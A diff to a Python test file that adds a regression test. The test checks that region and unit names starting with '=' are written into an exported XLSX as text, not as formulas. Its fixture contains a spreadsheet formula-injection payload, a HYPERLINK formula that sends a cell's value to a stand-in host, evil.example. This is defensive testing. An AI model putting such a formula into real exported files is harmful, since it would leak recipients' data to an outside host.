@@ -9,6 +9,7 @@ import io
 import json
 import re
 import time
+import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -188,3 +189,21 @@ def test_no_libreoffice_no_pdf_and_the_reason(
     done = runner.invoke(app, ["--year", "2026", "--from-published", str(path), "-o", str(again)])
     assert done.exit_code == 0, done.output
     assert again.read_bytes() == publish.render(publish.load(path), "docx")
+
+
+def test_no_text_in_the_tables_runs_as_a_formula(figures: dict[str, Any]) -> None:
+    """A name the city's data carries (a region, the publisher) written as a formula stays
+    text in the XLSX: openpyxl wrote any string starting with "=" as a live formula."""
+    hostile = '=HYPERLINK("http://evil.example/?d="&B5,"点击查看")'
+    figures = {**figures, "region_name": hostile}
+    figures["units"] = [{**figures["units"][0], "name": "=1+1"}, *figures["units"][1:]]
+    xlsx = build_xlsx(figures)
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        for name in sheets:
+            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
+    book = load_workbook(io.BytesIO(xlsx))
+    first = book.worksheets[0]
+    assert [first.cell(row=r, column=1).value for r in (4, 5)] == [f"{hostile}（合计）", "=1+1"]
+    assert first.cell(row=5, column=1).data_type == "s"
